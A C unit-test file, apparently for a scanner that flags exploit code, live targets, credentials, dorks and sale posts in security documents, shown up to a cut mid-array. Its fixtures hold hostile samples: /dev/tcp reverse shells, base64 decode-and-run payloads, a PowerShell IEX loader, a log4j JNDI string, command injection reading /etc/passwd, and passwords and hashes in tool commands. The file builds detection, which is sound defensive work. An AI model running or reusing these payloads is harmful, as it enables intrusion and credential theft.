/* The scanner end to end on small documents: boundaries, context, limits,
 * suppression, positions, and the redaction round trip over tests/check/data. */
#include "t.h"
#include "corpus_util.h"
#include "check/payload.h"
#include "check/scan_int.h"

#include <dirent.h>

static struct cu_engine E;

static size_t
count_rule(const char *doc, const char *rule, struct emb_check_report *keep)
{
    struct emb_check_report r;
    size_t n = 0;

    if (cu_scan(&E, "t.md", doc, strlen(doc), &r) != 0)
        return (size_t)-1;
    for (size_t i = 0; i < r.n; i++)
        if (!r.f[i].suppressed && (strcmp(r.f[i].rule->id, rule) == 0 ||
                                   strcmp(emb_check_family_name(r.f[i].rule->family), rule) == 0))
            n++;
    if (keep)
        *keep = r;
    else
        emb_check_report_free(&r);
    return n;
}

static void
test_ip_glued_to_chinese(void)
{
    struct emb_check_report r;

    T_EQ_INT(count_rule("访问1.2.3.4即可\n", "live_target.ipv4", &r), 1);
    T_EQ_INT(r.f[0].line, 1);
    T_EQ_INT(r.f[0].column, 3); /* code points, not bytes */
    T_EQ_INT(r.f[0].start, 6);
    T_EQ_INT(r.f[0].end, 13);
    T_EQ_STR(r.f[0].excerpt, "1.2.3.4");
    emb_check_report_free(&r);
    T_EQ_INT(count_rule("目标：8.218.33.102。\n", "live_target.ipv4", NULL), 1);
}

static void
test_ip_not_live(void)
{
    static const char *const docs[] = {
        "内网 192.168.1.1 与 10.0.0.1\n",
        "文档地址 192.0.2.1 198.51.100.2 203.0.113.3\n",
        "masked 1.2.*.* and 1.2.x.x\n",
        "UA Chrome/121.0.0.0 Safari/537.36\n",
        "版本 1.2.3.4 已修复\n",
        "v1.2.3.4\n",
        "OID 1.3.6.1.4.1.2021\n",
        "resolver 8.8.8.8 and 114.114.114.114\n",
        "loopback 127.0.0.1, cgnat 100.64.1.1, multicast 224.0.0.1, 169.254.1.1\n",
        "upgrade to 5.2.4.0 or later\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(docs); i++)
        if (count_rule(docs[i], "live_target", NULL) != 0)
            T_FAIL_AT("live target found in: %s", docs[i]);
}

static void
test_ioc_is_warning(void)
{
    struct emb_check_report r;

    T_EQ_INT(count_rule("## IOCs\n\n- 45.133.1.20\n", "live_target.ipv4", &r), 1);
    T_EQ_INT(r.f[0].severity, EMB_SEV_WARN);
    T_OK(r.f[0].ioc);
    emb_check_report_free(&r);
    /* defanged by the author: no longer a live address, no finding */
    T_EQ_INT(count_rule("seen at 45.133.1[.]20 and hxxp://evil-c2[.]top/x\n", "live_target", NULL),
             0);
}

/* findings of @a rule (id or family) that block */
static size_t
count_block(const char *doc, const char *rule)
{
    struct emb_check_report r;
    size_t n = 0;

    if (count_rule(doc, rule, &r) == (size_t)-1)
        return (size_t)-1;
    for (size_t i = 0; i < r.n; i++)
        if (!r.f[i].suppressed && r.f[i].severity == EMB_SEV_BLOCK &&
            (strcmp(r.f[i].rule->id, rule) == 0 ||
             strcmp(emb_check_family_name(r.f[i].rule->family), rule) == 0))
            n++;
    emb_check_report_free(&r);
    return n;
}

/*
 * The IOC role comes from the section and the line's role, not from a word
 * nearby: no demotion in a reproduction section or for a recipe's listener,
 * words only on their boundaries ("c2" inside "ec2-" or base64 is not C2, the
 * victim's 关键信息基础设施 is not attacker infrastructure), a hex run only as
 * a hash cell or a labelled hash. The twins stay warnings: an incident's
 * attacker address, an access-log line, an IOC table row.
 */
static void
test_ioc_role(void)
{
    static const char *const block[] = {
        "## 漏洞复现\n\n向 http://61.171.9.20:8080/oa/up.do 发送构造的恶意数据包即可。\n",
        "## Reproduction\n\nSend a malicious request to "
        "https://portal.hollin-sea.com/api/x?f=..%2f "
        "and it answers.\n",
        "## 概述\n\n这家关键信息基础设施运营者的平台 http://61.171.9.20:8081/ui/ 无需登录。\n",
        "## Notes\n\nThe panel at "
        "http://ec2-13-52-9-71.us-west-1.compute.amazonaws.com:8080/admin/ is open.\n",
        "## 说明\n\n访问 http://61.171.9.20/r?q=c2VsZWN0IDE= 返回结果。\n",
        "## 说明\n\n访问 http://61.171.9.20/x?appkey=0a1b2c3d4e5f60718293a4b5c6d7e8f9 导出。\n",
        "## 说明\n\n字段填入 `;bash -i >& /dev/tcp/61.171.9.20/4444 0>&1;` 保存后设备回连。\n",
    };
    static const char *const warn[] = {
        "## 事件经过\n\n排查发现攻击者 IP 61.171.9.20 写入计划任务，随后从 61.171.9.21 "
        "下载挖矿程序。\n",
        "## 日志\n\n```\n61.171.9.20 - - [12/Dec/2021:03:14:07 +0800] \"GET "
        "/?x=${jndi:ldap://61.171.9.20:1389/a} HTTP/1.1\" 400 0\n```\n",
        "## 分析\n\n| 61.171.9.20 | 9a8b7c6d5e4f30211203a4b5c6d7e8f9 | 样本下载 |\n",
        "## 分析\n\nThe host 61.171.9.20 served it, md5: 9a8b7c6d5e4f30211203a4b5c6d7e8f9\n",
        "## 分析\n\n样本连接的 C2 为 61.171.9.20。\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
        if (count_block(block[i], "live_target") == 0)
            T_FAIL_AT("no blocking live target in: %s", block[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(warn); i++)
        if (count_block(warn[i], "live_target") != 0 ||
            count_rule(warn[i], "live_target", NULL) == 0)
            T_FAIL_AT("not a warning in: %s", warn[i]);
}

/*
 * A capitalised word before a dotted number makes it a version ("Firefox
 * 115.0.1.2"), but not when the number carries a port or a path, or stands in
 * a scanner's result line: there it is the address of the service named.
 */
static void
test_product_before_address(void)
{
    static const char *const block[] = {
        "## 结果\n\n- Memcached 61.171.9.20:11211 未授权\n",
        "## 结果\n\n- Gitlab 61.171.9.20/explore 公开项目\n",
        "```\n[+] Postgres 61.171.9.20 weak password\n```\n",
    };
    static const char *const clean[] = {
        "Upgrade Firefox 115.0.1.2 to the current release.\n",
        "ExampleCMS 3.0.0.1: fixes the login page.\n",
        "[+] Found version 5.2.4.1 of the plugin\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
        if (count_block(block[i], "live_target") == 0)
            T_FAIL_AT("no blocking live target in: %s", block[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "live_target", NULL) != 0)
            T_FAIL_AT("live target in: %s", clean[i]);
}

/*
 * A command continued over lines (a trailing '\', PowerShell's '`', cmd's
 * '^') is judged as one logical line: its target or payload on a later line
 * counts. A continued download-and-verify or a version check stays clean.
 */
static void
test_continued_command(void)
{
    static const char *const block[] = {
        "## 复现\n\n```bash\ncurl -sk \\\n  -X POST \\\n  -d 'a=1' \\\n"
        "  https://61.171.9.20:8443/api/run\n```\n",
        "## 复现\n\n```bash\ncurl -sk \\\n  -d '{\"cmd\":\";cat /etc/passwd\"}' \\\n"
        "  https://target.com/api/v1/exec\n```\n",
        "## 复现\n\n```powershell\nInvoke-WebRequest -Method POST `\n"
        "  -Uri https://61.171.9.20/api/run `\n  -Body 'x'\n```\n",
        "## 复现\n\n```bat\ncurl -k ^\n  -d \"a=1\" ^\n  https://61.171.9.20/api/run\n```\n",
    };
    static const char *const clean[] = {
        "## 校验\n\n```bash\ncurl -fsO \"https://nodejs.org/dist/${V}/SHASUMS256.txt.asc\" \\\n"
        "&& gpgv --keyring=\"/path/k.kbx\" --output SHASUMS256.txt < SHASUMS256.txt.asc \\\n"
        "&& shasum --check SHASUMS256.txt --ignore-missing\n```\n\n## 修复\n\n升级。\n",
        "## 修复\n\n```bash\ncurl -s \\\n  http://127.0.0.1:8080/api/version\n```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(block); i++)
        if (count_block(block[i], "exploit_code") == 0)
            T_FAIL_AT("no exploit_code in: %s", block[i]);
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "exploit_code", NULL) != 0)
            T_FAIL_AT("exploit_code in: %s", clean[i]);
}

/*
 * Passwords given as command options or printed by a scanner, with no label
 * naming them; the twins the conventions exempt stay clean: a placeholder, a
 * prompt ("-p" alone), a list file, the writer setting a password, advice in
 * a fix section.
 */
static void
test_cmd_secrets(void)
{
    static const char *const found[] = {
        "```\nmysqldump -h 10.2.3.4 -uadmin -pQw7mZ2x!e shop > shop.sql\n```\n",
        "```\nredis-cli -h 10.2.3.4 -a Hk3vP9qLm2 info\n```\n",
        "```\nrpcclient -U backup%Ty6!nW2qa 10.2.3.4\n```\n",
        "```\npython3 wmiexec.py lab/svc_sql:Vb8#kQ2mw@10.2.3.4\n```\n",
        "```\nsecretsdump.py -hashes "
        "aad3b435b51404eeaad3b435b51404ee:8846f7eaee8fb117ad06bdd830b7586c "
        "lab/admin@10.2.3.4\n```\n",
        "```\n# redis.conf\nmasterauth Pz8kW3qLn7\n```\n",
        "```\n[+] ssh 10.2.3.4:22:root Mk29!qwZr\n[+] Redis 10.2.3.5:6379 Jq72Lm9xZp "
        "file:/data\n```\n",
    };
    static const char *const clean[] = {
        "```\nmysql -h 10.2.3.4 -u root -p shop\n```\n",
        "```\nredis-cli -a yourpassword\n```\n",
        "```\nnxc smb 10.2.3.0/24 -u users.txt -p passwords.txt\n```\n",
        "```\nredis-cli -h 10.2.3.4 config set requirepass Hk3vP9qLm2\n```\n",
        "## 修复建议\n\n```\nrequirepass Hk3vP9qLm2\n```\n",
        "```\n[+] Redis 10.2.3.5:6379 unauthorized file:/data\n```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++)
        if (count_block(found[i], "credential") == 0)
            T_FAIL_AT("no credential in: %s", found[i]);
    T_EQ_INT(count_block(found[6], "credential"), 2);
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "credential", NULL) != 0)
            T_FAIL_AT("credential in: %s", clean[i]);
}

/*
 * A command behind a decode-and-run idiom is decoded and judged: a reverse
 * shell or a payload is exploit code, its listener a live target. A benign
 * decoded command, a decode with nothing run, and an access-log line quoting
 * the idiom stay clean.
 */
static void
test_decode_run(void)
{
    static const char *const found[] = {
        "```\nbash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|"
        "{bash,-i}\n```\n",
        "执行 `echo Y3VybCBodHRwOi8vNjEuMTcxLjkuMjAveC5zaHxzaA== | base64 --decode | sh` 即可。\n",
        "```\npowershell -nop -c \"IEX([Text.Encoding]::Unicode.GetString([Convert]::"
        "FromBase64String('JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8A"
        "YwBrAGUAdABzAC4AVABDAFAAQwBsAGkAZQBuAHQAKAAnADYAMQAuADEANwAxAC4AOQAuADIAMAAnACwANAA0ADMAKQ"
        "A"
        "=')))\"\n```\n",
    };
    static const char *const clean[] = {
        "```\necho ZXhwb3J0IExBTkc9ZW5fVVMuVVRGLTg7IGRhdGU= | base64 -d | sh\n```\n",
        "```\n$b = "
        "[Convert]::FromBase64String('YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=')\n"
        "```\n",
        "```\n192.0.2.7 - - [12/Dec/2021:03:14:07 +0800] \"GET "
        "/?c={echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82"
        "MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|{bash,-i} HTTP/1.1\" 400 0\n```\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++) {
        if (count_block(found[i], "exploit_code.decode_run") != 1)
            T_FAIL_AT("no decode_run in: %s", found[i]);
        if (count_block(found[i], "live_target") != 1)
            T_FAIL_AT("no decoded live target in: %s", found[i]);
    }
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
        if (count_rule(clean[i], "exploit_code.decode_run", NULL) != 0 ||
            count_rule(clean[i], "live_target", NULL) != 0)
            T_FAIL_AT("finding in: %s", clean[i]);
}

static void
test_urls(void)
{
    T_EQ_INT(count_rule("参考 https://nvd.nist.gov/vuln/detail/CVE-2024-1\n", "live_target", NULL),
             0);
    T_EQ_INT(count_rule("see https://example.com/x?id=1'\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("漏洞地址：http://oa.victim-corp.cn/login.jsp\n", "live_target", NULL), 1);
    T_EQ_INT(count_rule("```\ncurl http://oa.victim-corp.cn:8080/\n```\n", "live_target", NULL), 1);
    T_EQ_INT(count_rule("报道见 https://news.some-site.cn/2024/a.html\n", "live_target", NULL), 0);
}

/* Shapes of the seventh pass: the rule and the near miss that must stay clean. */
static void
test_pass7_shapes(void)
{
    /* a managed database host is the customer's system; a masked one is not */
    T_EQ_INT(
        count_rule("```\nurl: jdbc:mysql://rm-bp1x7k2a9q3t.mysql.rds.aliyuncs.com:3306/db\n```\n",
                   "live_target", NULL),
        1);
    T_EQ_INT(count_rule("```\nurl: jdbc:mysql://rm-xxxxxxxx.mysql.rds.aliyuncs.com:3306/db\n```\n",
                        "live_target", NULL),
             0);
    T_EQ_INT(count_rule("OSS endpoint oss-cn-hangzhou.aliyuncs.com\n", "live_target", NULL), 0);
    /* addresses in file names; versions in file names and ranges stay clean */
    T_EQ_INT(count_rule("```\n61_164_53_108_result.txt\n```\n", "live_target.ip_file", NULL), 1);
    T_EQ_INT(count_rule("```\n5.161.92.144_env.txt\n```\n", "live_target.ipv4", NULL), 1);
    T_EQ_INT(count_rule("固件 BC-OSM_V10_2_0_21_20240611.bin\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("```\n10_0_12_7_result.txt\n```\n", "live_target", NULL), 0);
    T_EQ_INT(count_rule("星汉ERP 6.3.0.0 至 6.3.2.9 等版本的服务器受到攻击\n", "live_target", NULL),
             0);
    /* a package path is not a host */
    T_EQ_INT(count_rule("```java\njava.io.InputStream in = x;\n```\n", "live_target", NULL), 0);
    /* a count after an engine's query, in any wording; the engine glued to a word is not one */
    T_EQ_INT(count_rule("在 fofa 上跑了一下，大约 5,800 多条结果，很多是学校。\n",
                        "live_target.count", NULL),
             1);
    T_EQ_INT(
        count_rule("Shodan query `x` gives 27,400 results right now.\n", "live_target.count", NULL),
        1);
    T_EQ_INT(
        count_rule("解压密码关注公众号回复 OAHunter 获取 2 个文件。\n", "live_target.count", NULL),
        0);
    T_EQ_INT(count_rule("1. 已下线受影响网站，清除 WebShell。\n", "live_target", NULL), 0);
    /* a login pair needs a live host or a login word on its line */
    T_EQ_INT(
        count_rule("```\n[+] 80.94.31.66:554  admin:halden\n```\n", "credential.login_pair", NULL),
        1);
    T_EQ_INT(count_rule("chown root:wheel /srv\n", "credential", NULL), 0);
    /* SnakeYAML global tags; a player opening a camera with its login */
    T_EQ_INT(count_rule(
                 "```\n!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[]]]\n```\n",
                 "exploit_code", NULL),
             1);
    T_EQ_INT(count_rule("`ffplay rtsp://admin:cv8812pass@73.189.44.212:554/live`\n", "exploit_code",
                        NULL),
             1);
    T_EQ_INT(
        count_rule("`ffplay rtsp://admin:password@192.168.1.64:554/live`\n", "exploit_code", NULL),
        0);
    /* an engine option is a query; a lead-in that does not use the engine is none */
    T_EQ_INT(count_rule("```\n./camsnatch -shodan-key $K -w 300\n```\n", "search_dork", NULL), 1);
    T_EQ_INT(count_rule("不用 fofa，直接扫：\n\n```\nmasscan -p6379 10.0.0.0/8\n```\n",
                        "search_dork", NULL),
             0);
}

static void
test_dorks(void)
{
    T_EQ_INT(count_rule("fofa: app=\"x\"\n", "search_dork", NULL), 1);
    T_EQ_INT(count_rule("app=\"x\" && title=\"y\"\n", "search_dork", NULL), 1);
    T_EQ_INT(count_rule("<a title=\"hello\">x</a>\n", "search_dork", NULL), 0);
    T_EQ_INT(count_rule("```python\ntitle = \"hello\"\n```\n", "search_dork", NULL), 0);
    T_EQ_INT(count_rule("据 FOFA 统计，该产品使用广泛。\n", "search_dork", NULL), 0);
    T_EQ_INT(count_rule("icon_hash=\"-1234\"\n", "search_dork", NULL), 1);
}

/* Queries of several fields joined the way Quake, ZoomEye, Censys and Shodan
 * join them, with no engine named near them (review 13, F); and what stays
 * clean: call arguments, a syntax tip's placeholders, a page's front matter. */
static void
test_dork_chains(void)
{
    T_EQ_INT(count_rule("# 资产\n\nresponse:\"gw_session\" AND port:443\n", "search_dork", NULL),
             1);
    T_EQ_INT(count_rule("# 资产\n\n```\napp:\"Cam\" +country:\"CN\"\n```\n", "search_dork", NULL),
             1);
    T_EQ_INT(count_rule("# Exposure\n\n```\nservices.http.response.body: \"gw\" and "
                        "location.country_code: CN\n```\n",
                        "search_dork", NULL),
             1);
    T_EQ_INT(count_rule("# Exposure\n\nssl:\"Gw Inc\" product:\"Gw\"\n", "search_dork", NULL), 1);
    /* not chains: a single field, '=' fields side by side, arguments with commas */
    T_EQ_INT(count_rule("# Notes\n\nresponse:\"gw_session\" was seen.\n", "search_dork", NULL), 0);
    T_EQ_INT(count_rule("# Log\n\n```\nhost=\"a\" port=\"80\"\n```\n", "search_dork", NULL), 0);
    T_EQ_INT(count_rule("# Code\n\nconnect(host=\"a\", port=\"80\")\n", "search_dork", NULL), 0);
    /* a syntax tip's placeholders, under an engine's heading */
    T_EQ_INT(count_rule("# FOFA 语法入门\n\n在 FOFA 中，`title=\"xxx\"` 表示网页标题包含 xxx，"
                        "`body=\"关键字\"` 表示正文包含关键字。\n",
                        "search_dork", NULL),
             0);
    T_EQ_INT(
        count_rule("# FOFA 语法入门\n\n在 FOFA 中搜索 `title=\"GwOA\"`。\n", "search_dork", NULL),
        1);
    /* a placeholder is at most 24 bytes: 24 x's are one, 25 a value */
    T_EQ_INT(
        count_rule(
            "# 资产\n\ntitle=\"xxxxxxxxxxxxxxxxxxxxxxxx\" && body=\"xxxxxxxxxxxxxxxxxxxxxxxx\"\n",
            "search_dork", NULL),
        0);
    T_EQ_INT(
        count_rule(
            "# 资产\n\ntitle=\"xxxxxxxxxxxxxxxxxxxxxxxxx\" && body=\"xxxxxxxxxxxxxxxxxxxxxxxxx\"\n",
            "search_dork", NULL),
        1);
    /* front matter (YAML, TOML) labels the page; the same lines in the body are a query */
    T_EQ_INT(
        count_rule("---\ntags: [\"FOFA\", \"资产测绘\"]\ntitle: \"GwOA 漏洞复现与修复\"\n---\n\n"
                   "# GwOA\n\n升级到 3.2。\n",
                   "search_dork", NULL),
        0);
    T_EQ_INT(count_rule("+++\ntitle = \"Hunter 鹰图使用心得\"\n+++\n\n本文介绍鹰图的界面。\n",
                        "search_dork", NULL),
             0);
    T_OK(count_rule("# GwOA\n\ntags: [\"FOFA\"]\ntitle: \"GwOA\"\n", "search_dork", NULL) >= 1);
}

/* A block that reads a list and fans out over it, its probe a helper named for
 * what it does or defined in a block that talks to the network (review 13, G);
 * a log processor with the same loop stays clean. */
static void
test_fanout_over_list(void)
{
    static const char go_loop[] =
        "```go\nf, _ := os.Open(*list)\nsc := bufio.NewScanner(f)\n"
        "sem := make(chan struct{}, 100)\nfor sc.Scan() {\n"
        "\tsem <- struct{}{}\n\tgo func(u string) { defer func() { <-sem }(); "
        "%s(u) }(sc.Text())\n}\n```\n%s";
    char doc[1024];

    snprintf(doc, sizeof doc, go_loop, "check", "");
    T_OK(count_rule(doc, "mass_scanner", NULL) >= 1);
    snprintf(doc, sizeof doc, go_loop, "handle",
             "\n```go\nfunc handle(u string) { http.Get(u + \"/api/v1/debug\") }\n```\n");
    T_OK(count_rule(doc, "mass_scanner", NULL) >= 1);
    snprintf(doc, sizeof doc, go_loop, "handle", "");
    T_EQ_INT(count_rule(doc, "mass_scanner", NULL), 0);
    snprintf(doc, sizeof doc, go_loop, "s.check", "");
    T_EQ_INT(count_rule(doc, "mass_scanner", NULL), 0);
    T_OK(count_rule("```java\nList<String> targets = Files.readAllLines(Paths.get(args[0]));\n"
                    "ExecutorService pool = Executors.newFixedThreadPool(50);\n"
                    "for (String t : targets) pool.submit(() -> exploit(t));\n```\n",
                    "mass_scanner", NULL) >= 1);
    /* a loop over a list needs Perl's sigil or the word "in"; prose ending in
     * "for ... files" is none (a changelog's "fix crash for unstatable files") */
    T_OK(count_rule("```python\nimport requests\nfor u in urls:\n    requests.get(u)\n```\n",
                    "mass_scanner", NULL) >= 1);
    T_OK(count_rule("```perl\nuse LWP::Simple;\nfor my $u (@urls) {\n    get($u);\n}\n```\n",
                    "mass_scanner", NULL) >= 1);
    T_EQ_INT(
        count_rule("\tls: fix crash printing SELinux context for unstatable files\n"
                   "\tThis crash was reported at:\n\thttps://lab.example.org/2020/defects.html\n",
                   "mass_scanner", NULL),
        0);
    T_EQ_INT(count_rule("```java\nList<String> rows = Files.readAllLines(Paths.get(args[0]));\n"
                        "ExecutorService pool = Executors.newFixedThreadPool(8);\n"
                        "for (String r : rows) pool.submit(() -> index(r));\n```\n",
                        "mass_scanner", NULL),
             0);
}

/* Sale contacts and scarcity need their object: a Jabber address, copies
 * left; "xmpp: support" and "only 1000 copies" in a benchmark are none. */
static void
test_sale_contacts(void)
{
    T_EQ_INT(count_rule("RCE for GwOA, xmpp: seller0day@jabber.example.net\n", "hype", NULL), 1);
    T_EQ_INT(
        count_rule("Added xmpp: and mailto: support to the autolink extension\n", "hype", NULL), 0);
    T_EQ_INT(count_rule("GwOA pre-auth RCE, only 3 copies left.\n", "hype", NULL), 1);
    T_EQ_INT(
        count_rule("1.31 1.26 AMD FX(tm)-4100 cache=2MB (with only 1000 copies)\n", "hype", NULL),
        0);
    T_EQ_INT(count_rule("默认密码 Tg@2019admin 即可登录\n", "hype", NULL), 0);
    T_EQ_INT(count_rule("需要完整利用的联系 TG@zeroday_shop\n", "hype", NULL), 1);
}

static void
test_credentials_masked(void)
{
    struct emb_check_report r;

    T_EQ_INT(count_rule("password: Xk9#mP2qL\n", "credential", &r), 1);
    T_OK(strstr(r.f[0].excerpt, "Xk9#mP2qL") == NULL);
    T_OK(strstr(r.f[0].excerpt, "****") != NULL);
    emb_check_report_free(&r);
    T_EQ_INT(count_rule("默认密码：admin123\n", "credential", NULL), 0);
    T_EQ_INT(count_rule("password = request.form\n", "credential", NULL), 0);
    T_EQ_INT(count_rule("key AKIAIOSFODNN7EXAMPLE\n", "credential", NULL), 0);
}

/*
 * A password is hidden only by what speaks of that value: advice against it
 * standing right before it ("不得使用 `123456`、`redis@2023`"), the account its
 * own request creates (the request line or a role in a creating block), or
 * that account's password named again as a whole token. Advice elsewhere on
 * the line, a role key in a dump, a request in an earlier block or a longer
 * password that starts with the chosen one hide nothing (review9 finding 3).
 */
static void
test_password_context(void)
{
    static const char *const req =
        "```http\nPOST /nacos/v1/auth/users HTTP/1.1\nHost: {{Hostname}}\n\n"
        "username=x&password=Test1234\n```\n\n";
    char doc[1024];

    T_EQ_INT(count_rule(
                 "Production DB dump from the box:\n\n```json\n"
                 "{\"user\":\"svc_backup\",\"role\":\"dba\",\"password\":\"Xk9#vLq2!mPz\"}\n```\n",
                 "credential", NULL),
             1);
    T_EQ_INT(count_rule("```\nPOST /api/v1/user/add HTTP/1.1\nHost: 10.16.8.21:9443\n\n"
                        "{\"username\":\"sync_audit\",\"password\":\"Qa!7shadow2024\","
                        "\"role\":\"superadmin\"}\n```\n",
                        "credential", NULL),
             0);
    T_EQ_INT(
        count_rule("```python\nimport requests\nbody = {\"username\": \"sync_audit\", "
                   "\"password\": \"Qa!7shadow2024\", \"role\": \"superadmin\"}\n"
                   "for h in hosts:\n    requests.post(h + \"/api/v1/user/add\", json=body)\n```\n",
                   "credential", NULL),
        0);
    snprintf(doc, sizeof doc, "%s%s", req,
             "The production console password is Test1234Prod!Vault and it still works.\n");
    T_EQ_INT(count_rule(doc, "credential", NULL), 1);
    snprintf(doc, sizeof doc, "%s%s", req, "Then log in as x; the password is Test1234.\n");
    T_EQ_INT(count_rule(doc, "credential", NULL), 0);
    T_EQ_INT(count_rule("```\ncurl -X POST \"http://h:8848/v1/auth/users\" "
                        "-d \"username=svc_backup&password=Backup#2024\"\n```\n",
                        "credential", NULL),
             0);
    T_EQ_INT(
        count_rule("The leaked ops password is Tr0ub4dor&3x. Do not use it.\n", "credential", NULL),
        1);
    T_EQ_INT(count_rule("Ops wiki (never use this in prod): db password: Pr0d#Vault!2024\n",
                        "credential", NULL),
             1);
    T_EQ_INT(count_rule("- Redis 必须设置 `requirepass`，口令由运维平台生成，不得使用 `123456`、"
                        "`redis@2023` 这类弱口令。\n",
                        "credential", NULL),
             0);
}

/*
 * What changelogs and advisories cite has the shape of a secret: tracker
 * references, repository references, anchors and methods, a key's
 * fingerprint, a certificate pin, sections of a standard, the version of a
 * fix, an author's e-mail address. None is a finding; the same shapes next
 * to a credential word still are.
 */
static void
test_citations(void)
{
    static const char *const clean[] = {
        "Fixed by gtk#2656 and merge request libfoo!422 (Bug#47715, bz#3278).\n",
        "(dbus#301, dbus!103; fd.o#89086) and Closes: bug#47715:\n",
        "Merged as pypa/distutils@d82d926; CI uses actions/checkout@v2.\n",
        "The Http2ServerRequest#setTimeout method; see docs/api.md#node_v8_coverage.\n",
        "The decoder allocates 8*blocksize bytes, not count*3.\n",
        "An attacker can bypass login; the GET/POST handler skips the check.\n",
        "Tests now pass on Linux/x86_64 and the fix was passed to the maintainers/security team.\n",
        "Signing key fingerprint: 5BE8A3F6C8A5C01D106C0AD820B1A390B168D356\n",
        "Public key pin-sha256: SIXvRyDmBJSgatgTQRGbInBaAK+hZOQ18UmrSwnDlK8=\n",
        "See RFC 1122 (section 4.2.2.13) and RFC 7540 8.1.2.4.\n",
        "Upgrade to 3.24.35.22 or later; the 2.x branch should update to 2.9.146.19.\n",
        "Reported by Torbjorn Granlund <tg@gmplib.org>.\n",
        "Version 2.0 adds bulk modes for CBC and CFB.\n",
        "```bash\n./autogen.sh --host=x86_64-linux-gnu\n"
        "./foo-server --config ./conf/foo.conf --port 8080\n```\n",
        "* **CVE-2021-3672/CVE-2021-22931**: improper handling of domain names (High)\n",
        "Ping a member of `@nodejs/jenkins-admins` to lock the CI.\n",
        "**Geoffrey Booth** <<webadmin@geoffreybooth.com>> (he/him)\n",
        "The user/passwd fields and passwd/group files are read at start-up.\n",
        "Use `readline.createInterface()` or `Promise.all()` for that.\n",
        "See [`uname(3)`].\n\n[`uname(3)`]: https://linux.die.net/man/3/uname\n",
        "Bug: https://bugs.freedesktop.org/show_bug.cgi?id=106632\n",
        "```js\nconst key = fs.readFileSync('private-key.pem');\n"
        "https.createServer({ key }).listen(8443);\n```\n",
        /* release notes and changelogs */
        "dpkg (1.16.4.2) unstable; urgency=low\n",
        "Start preparing for 1.8.4.3; the crash was fixed in 1.4.0.26.\n",
        "* v8: upgrade v8 to 3.20.14.1; Upgrade to V8 5.0.71.57. Update GIT 1.5.3.5 notes.\n",
        "Closes: alioth#315841. Improve pkcs#12 import (Bug#51860#25).\n",
        "GitHub Actions: update to checkout@v4 and setup-node@v3.\n",
        "See commonmark/CommonMark#527 and nodejs/node#2482.\n",
        "Signing key fingerprint: 5BE8A3F6C8A5C01D106C0AD820B1A390B168D356\n"
        "gpg --recv-keys 5BE8A3F6C8A5C01D106C0AD820B1A390B168D356\n",
        "[man]: https://linux.die.net/man/3/uname\n",
        "本次测试仅限 `*.qingqiong.com` 子域，其余一律不测。\n",
        "```yaml\nreference:\n  - https://www.acme-soft.com/security/advisory-2026-01\n```\n",
        "Wed May 19 15:15:12 1993  Phil Nelson  (phil at cs.wwu.edu)\n",
        "```cpp\n// addon.cc\n#include <node.h>\n```\n\n"
        "    % time c++ -c test.cc -I include\n\n"
        "See [embedtest.cc].\n",
    };
    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++) {
        struct emb_check_report r;
        if (cu_scan(&E, "t.md", clean[i], strlen(clean[i]), &r) != 0) {
            T_FAIL_AT("scan failed: %s", clean[i]);
            continue;
        }
        for (size_t k = 0; k < r.n; k++)
            T_FAIL_AT("%s in: %s", r.f[k].rule->id, clean[i]);
        emb_check_report_free(&r);
    }
    /* the shapes next to a credential, or the contact of a sale post */
    T_EQ_INT(count_rule("默认密码 Oracle#8899\n", "credential", NULL), 1);
    T_EQ_INT(count_rule("10.20.1.16 oracle Oracle#8899\n", "credential", NULL), 1);
    T_OK(count_rule("user/pass: admin/Tx9!vb23\n", "credential", NULL) >= 1);
    T_OK(count_rule("token = ghp_8Xk2mQ7vR4zT1nL9wB3yE6hJ0sD5cF2aB1c\n", "credential", NULL) >= 1);
    T_EQ_INT(count_rule("出售 0day，联系TG@darkseller\n", "hype.sale", NULL), 1);
    T_EQ_INT(count_rule("contact tg: @darkseller for price\n", "hype.sale", NULL), 1);
    T_EQ_INT(count_rule("- **Bulk mode**: feed it a file of hosts\n", "mass_scanner", NULL), 1);
    T_EQ_INT(count_rule("目标 45.133.1.20 开放 8080\n", "live_target", NULL), 1);
    T_OK(count_rule("```bash\n./exp.sh --host=TARGET\n```\n", "exploit_code", NULL) >= 1);
    T_OK(count_rule("```js\nconst hosts = fs.readFileSync('hosts.txt', 'utf8').split('\\n');\n"
                    "for (const h of hosts) https.get(`https://${h}/api`);\n```\n",
                    "mass_scanner", NULL) >= 1);
    T_OK(count_rule("Run: `node quarry.js hosts.txt | tee found.txt`\n", "exploit_code", NULL) >=
         1);
    T_OK(count_rule("默认账号/密码：admin/Hc@2026!x\n", "credential", NULL) >= 1);
    T_OK(count_rule("[poc]: http://oa.hengtai-group.com.cn:8080/seeyon/htmlofficeservlet\n",
                    "live_target", NULL) >= 1);
    /* what a review of these exceptions found they let through: weak
     * passwords that look like references, labels that look published, an
     * address after "update", a handle glued to "TG@", link definitions of
     * affected sites, a one-label host */
    static const struct {
        const char *doc, *family;
    } still[] = {
        { "登录后台：guest/Guest@2024\n", "credential" },
        { "Connect as system/Manager@123 and dump the tables.\n", "credential" },
        { "Web UI: operator / oper#8899\n", "credential" },
